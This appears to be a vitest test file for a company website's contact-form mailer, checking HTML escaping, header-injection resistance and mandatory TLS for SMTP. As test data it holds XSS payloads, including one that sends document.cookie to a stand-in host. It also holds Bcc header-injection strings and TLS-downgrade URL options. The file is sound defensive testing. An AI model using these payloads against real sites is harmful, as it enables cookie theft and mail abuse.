// The e-mail a message becomes, delivered through a real SMTP server (the local mail catcher).
import { contactSchema, type ContactMessage } from "@orbitag/contact";
import { LOCAL_SMTP_URL } from "@orbitag/dev-services/config";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { DEFAULT_CONTACT_FROM, DEFAULT_CONTACT_TO, DEFAULT_SMTP_URL, readConfig } from "./config.ts";
import { buildContactEmail, createSmtpSender, escapeHtml, isLoopbackHost, parseSmtpUrl } from "./mail.ts";
import {
  externalAddress,
  startContactStack,
  startTcpProxy,
  TEST_TO,
  validMessage,
  type ContactStack,
} from "./testing.ts";

let stack: ContactStack;
beforeAll(async () => {
  stack = await startContactStack();
});
afterAll(() => stack.close());
beforeEach(() => stack.catcher.clear());

const meta = { requestId: "req-123", receivedAt: new Date("2026-01-02T03:04:05Z") };

/** Validates, builds and sends; `unchecked` skips the schema (what the transport does with anything). */
async function deliver(input: Record<string, string>, { unchecked = false } = {}) {
  const message = unchecked ? (input as unknown as ContactMessage) : contactSchema.parse(input);
  await createSmtpSender(stack.config)(buildContactEmail(message, stack.config, meta));
  const [delivered, ...rest] = await stack.catcher.messages();
  expect(rest).toEqual([]);
  return delivered!;
}

describe("contact e-mail over SMTP", () => {
  it("goes only to the sales inbox, from the site, with Reply-To the visitor and a prefixed subject", async () => {
    const mail = await deliver(validMessage());
    expect(mail.envelope.to).toEqual([TEST_TO]);
    expect(mail.to).toEqual([TEST_TO]);
    expect(mail.cc).toEqual([]);
    expect(mail.from).toBe("no-reply@orbitag.test");
    expect(mail.replyTo).toBe("ada@example.com");
    expect(mail.subject).toBe("[Orbitag contact] Tracking 400 infusion pumps");
    expect(mail.headers.find((h) => h.key === "x-contact-request-id")?.value).toBe("req-123");
  });

  it("has a plain-text and an HTML part, both carrying every field", async () => {
    const mail = await deliver({ ...validMessage(), message: "Line one\nLine two & more" });
    for (const part of [mail.text, mail.html]) {
      expect(part).toContain("Ada Lovelace");
      expect(part).toContain("ada@example.com");
      expect(part).toContain("Tracking 400 infusion pumps");
    }
    expect(mail.text).toContain("Line one\nLine two & more");
    expect(mail.html).toContain("Line one\nLine two &amp; more");
    expect(mail.html).toContain('<a href="mailto:ada@example.com">');
  });

  it("escapes HTML and script in every field of the HTML part, and keeps the text part verbatim", async () => {
    const evil = {
      name: `<img src=x onerror="alert(1)">`,
      email: "o'brien@example.com",
      subject: `<script>alert("subject")</script>`,
      message: `</div><script>fetch('//evil.test/'+document.cookie)</script> & "quotes"`,
    };
    const mail = await deliver(evil);
    expect(mail.html).not.toMatch(/<img|<script|<\/div><script/);
    expect(mail.html).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;");
    expect(mail.html).toContain("&lt;script&gt;alert(&quot;subject&quot;)&lt;/script&gt;");
    expect(mail.html).toContain("&lt;/div&gt;&lt;script&gt;fetch(&#39;//evil.test/&#39;+document.cookie)");
    expect(mail.html).toContain('href="mailto:o&#39;brien@example.com"');
    expect(mail.text).toContain(evil.message);
    expect(mail.subject).toBe(`[Orbitag contact] ${evil.subject}`);
  });

  it.each([
    ["validated", false],
    // the schema refuses the encoded line break (schema.test.ts); past it, still no header
    ["unchecked", true],
  ])("cannot add recipients or headers through the name or subject (%s)", async (_label, unchecked) => {
    const mail = await deliver(
      {
        ...validMessage(),
        name: `Eve, "Mallory" <mallory@evil.test>, bob@evil.test; Bcc: carol@evil.test`,
        subject: unchecked
          ? "Hello =?utf-8?Q?=0D=0ABcc=3A_dave@evil.test?= there"
          : "Hello; Bcc: dave@evil.test",
      },
      { unchecked },
    );
    expect(mail.envelope.to).toEqual([TEST_TO]);
    expect(mail.to).toEqual([TEST_TO]);
    expect(mail.cc).toEqual([]);
    expect(mail.replyTo).toBe("ada@example.com");
    const replyTo = mail.headers.filter((h) => h.key === "reply-to");
    expect(replyTo).toHaveLength(1);
    expect(mail.headers.map((h) => h.key)).not.toContain("bcc");
  });

  it("keeps non-ASCII text intact", async () => {
    const mail = await deliver({ ...validMessage(), name: "Zoë Ångström", subject: "Ünïcödé — ✓ 日本語" });
    expect(mail.subject).toBe("[Orbitag contact] Ünïcödé — ✓ 日本語");
    expect(mail.text).toContain("Zoë Ångström");
  });
});

describe("configuration", () => {
  it("documents defaults for a local setup", () => {
    const config = readConfig({});
    expect(config.smtpUrl).toBe(DEFAULT_SMTP_URL);
    expect(DEFAULT_SMTP_URL).toBe(LOCAL_SMTP_URL);
    expect(config.to).toBe(DEFAULT_CONTACT_TO);
    expect(DEFAULT_CONTACT_TO).toBe("hello@orbitag.com");
    expect(config.from).toBe(DEFAULT_CONTACT_FROM);
    expect(DEFAULT_CONTACT_FROM).toBe("Orbitag website <no-reply@orbitag.com>");
  });

  it("reads SMTP_URL, CONTACT_TO and CONTACT_FROM", () => {
    expect(
      readConfig({ SMTP_URL: "smtps://u:p@mail.test:465", CONTACT_TO: "a@b.test", CONTACT_FROM: "c@d.test" }),
    ).toMatchObject({
      smtpUrl: "smtps://u:p@mail.test:465",
      to: "a@b.test",
      from: "c@d.test",
    });
  });
});

describe("escapeHtml", () => {
  it("escapes the five HTML-significant characters and nothing else", () => {
    expect(escapeHtml(`<a href="x">Tom & Jerry's</a> ✓`)).toBe(
      "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#39;s&lt;/a&gt; ✓",
    );
  });
});

describe("parseSmtpUrl", () => {
  it("reads host, port, TLS mode, encoded credentials and query options", () => {
    expect(parseSmtpUrl("smtp://127.0.0.1:54325")).toEqual({ host: "127.0.0.1", port: 54325, secure: false });
    expect(
      parseSmtpUrl("smtps://apikey:p%40ss%3Aword@smtp.example.com:465?tls.minVersion=TLSv1.3&name=web"),
    ).toEqual({
      host: "smtp.example.com",
      port: 465,
      secure: true,
      auth: { user: "apikey", pass: "p@ss:word" },
      tls: { minVersion: "TLSv1.3" },
      name: "web",
    });
    expect(parseSmtpUrl("smtp://[::1]:2525")).toMatchObject({ host: "::1", port: 2525 });
  });

  it("rejects anything but smtp:// and smtps://", () => {
    expect(() => parseSmtpUrl("http://mail.example.com")).toThrow(/smtp:\/\//);
    expect(() => parseSmtpUrl("not a url")).toThrow();
  });
});

describe("TLS for every SMTP host that is not loopback", () => {
  it("makes smtp:// to a remote host require STARTTLS; smtps:// is TLS from the first byte", () => {
    expect(parseSmtpUrl("smtp://u:p@smtp.example.com:587")).toMatchObject({
      secure: false,
      requireTLS: true,
    });
    expect(parseSmtpUrl("smtp://10.0.0.7:25")).toMatchObject({ requireTLS: true });
    expect(parseSmtpUrl("smtps://u:p@smtp.example.com")).toMatchObject({ secure: true });
  });

  it("leaves loopback alone: the local catcher speaks plain SMTP", () => {
    for (const url of [
      "smtp://127.0.0.1:54325",
      "smtp://localhost:25",
      "smtp://[::1]:25",
      "smtp://127.8.9.10",
    ])
      expect(parseSmtpUrl(url)).not.toHaveProperty("requireTLS");
    expect(isLoopbackHost("mail.localhost")).toBe(true);
    expect(isLoopbackHost("localhost.evil.test")).toBe(false);
    expect(isLoopbackHost("127.0.0.1.evil.test")).toBe(false);
    expect(isLoopbackHost("0.0.0.0")).toBe(false);
  });

  it.each([
    ["smtp://smtp.example.com?ignoreTLS=true", "ignoreTLS"],
    ["smtp://smtp.example.com?ignoreTLS=1", "ignoreTLS"],
    ["smtp://smtp.example.com?ignoreTLS=yes", "ignoreTLS"],
    ["smtp://smtp.example.com?opportunisticTLS=true", "opportunisticTLS"],
    ["smtp://smtp.example.com?requireTLS=false", "requireTLS"],
    ["smtp://smtp.example.com?requireTLS=0", "requireTLS"],
    ["smtps://smtp.example.com?secure=false", "secure"],
    ["smtps://smtp.example.com?secure=0", "secure"],
    ["smtp://smtp.example.com?secured=1", "secured"],
    ["smtps://smtp.example.com?tls.rejectUnauthorized=false", "tls.rejectUnauthorized"],
    ["smtps://smtp.example.com?tls.rejectUnauthorized=0", "tls.rejectUnauthorized"],
    ["smtps://smtp.example.com?tls.ciphers=NULL", "tls.ciphers"],
    ["smtps://smtp.example.com?tls.minVersion=TLSv1", "tls.minVersion"],
    // the host must not change after the loopback decision: a remote server would go without requireTLS
    ["smtp://127.0.0.1?host=smtp.example.com", "host"],
    ["smtp://127.0.0.1?port=25", "port"],
    ["smtp://127.0.0.1?service=gmail", "service"],
    ["smtp://127.0.0.1?proxy=http://proxy.example.com", "proxy"],
  ])("refuses %s whatever its value's spelling, naming %s", (url, option) => {
    const withLogin = url.replace("//", "//apikey:s3cret@");
    expect(() => parseSmtpUrl(withLogin)).toThrow(`SMTP_URL option ${option} is refused`);
    expect(() => parseSmtpUrl(withLogin)).not.toThrow(/s3cret/);
  });

  it("keeps the options that cannot weaken transport security", () => {
    expect(
      parseSmtpUrl(
        "smtp://smtp.example.com?name=web.orbitag.com&authMethod=LOGIN&connectionTimeout=1000&greetingTimeout=1000&socketTimeout=2000&dnsTimeout=500&tls.minVersion=TLSv1.2",
      ),
    ).toEqual({
      host: "smtp.example.com",
      secure: false,
      requireTLS: true,
      name: "web.orbitag.com",
      authMethod: "LOGIN",
      connectionTimeout: 1000,
      greetingTimeout: 1000,
      socketTimeout: 2000,
      dnsTimeout: 500,
      tls: { minVersion: "TLSv1.2" },
    });
  });

  it("sends no login and no message to a remote server that does not offer STARTTLS", async () => {
    // the catcher offers no STARTTLS; reach it through this machine's non-loopback address
    const remote = await startTcpProxy(stack.catcher.smtpPort, { host: externalAddress() });
    try {
      const send = createSmtpSender({
        ...stack.config,
        smtpUrl: `smtp://apikey:s3cret@${externalAddress()}:${remote.port}`,
      });
      await expect(
        send(buildContactEmail(contactSchema.parse(validMessage()), stack.config, meta)),
      ).rejects.toThrow(/STARTTLS/);
      expect(await stack.catcher.messages()).toEqual([]);
    } finally {
      await remote.close();
    }
  });
});

describe("a send past its time limit", () => {
  const mail = () => buildContactEmail(contactSchema.parse(validMessage()), stack.config, meta);
  // nodemailer's own timeouts a minute away, so only the send limit can end these sends and only its abort can
  // close their connections within the poll's patience (no bound on the elapsed time: a busy machine is slow)
  const patient = {
    connectionTimeout: 60_000,
    greetingTimeout: 60_000,
    socketTimeout: 60_000,
    sendTimeout: 600,
  };
  afterAll(() => stack.catcher.setMode("up"));

  it("is aborted by the send limit and its connection closed (catcher hanging before its greeting)", async () => {
    const watched = await startTcpProxy(stack.catcher.smtpPort);
    try {
      stack.catcher.setMode("hang");
      const send = createSmtpSender({ smtpUrl: `smtp://127.0.0.1:${watched.port}`, timeouts: patient });
      await expect(send(mail())).rejects.toMatchObject({ code: "ESENDTIMEOUT" });
      await expect.poll(() => watched.open(), { interval: 20 }).toBe(0);
      expect(watched.accepted()).toBe(1);
    } finally {
      stack.catcher.setMode("up");
      await watched.close();
    }
  });

  it("is aborted mid-conversation (catcher hanging at RCPT TO) and nothing arrives once it recovers", async () => {
    const watched = await startTcpProxy(stack.catcher.smtpPort);
    try {
      stack.catcher.setMode("hang", { to: [TEST_TO] });
      const send = createSmtpSender({ smtpUrl: `smtp://127.0.0.1:${watched.port}`, timeouts: patient });
      await expect(send(mail())).rejects.toMatchObject({ code: "ESENDTIMEOUT" });
      await expect.poll(() => watched.open(), { interval: 20 }).toBe(0);
      expect(watched.accepted()).toBe(1);
      // with the connection gone, a recovered server has nothing to store
      stack.catcher.setMode("up");
      expect(await stack.catcher.messages()).toEqual([]);
    } finally {
      stack.catcher.setMode("up");
      await watched.close();
    }
  });

  it("never delivers late when the server is merely slow", async () => {
    // every reply 200 ms late: each wait is short, the conversation takes ~1.4 s
    const slow = await startTcpProxy(stack.catcher.smtpPort, { delayMs: 200 });
    try {
      const send = createSmtpSender({ smtpUrl: `smtp://127.0.0.1:${slow.port}`, timeouts: patient });
      await expect(send(mail())).rejects.toMatchObject({ code: "ESENDTIMEOUT" });
      // the abort closed the connection: with it gone the server can store nothing more
      await expect.poll(() => slow.open(), { interval: 20 }).toBe(0);
      expect(slow.accepted()).toBe(1);
      expect(await stack.catcher.messages()).toEqual([]);
      // the same server with time to spare does deliver: the limit, not the proxy, stopped the first (a minute:
      // a busy machine stretches the ~1.4 s conversation several times)
      const relaxed = createSmtpSender({
        smtpUrl: `smtp://127.0.0.1:${slow.port}`,
        timeouts: { ...patient, sendTimeout: 60_000 },
      });
      await relaxed(mail());
      expect(await stack.catcher.messages()).toHaveLength(1);
    } finally {
      await slow.close();
    }
  });
});
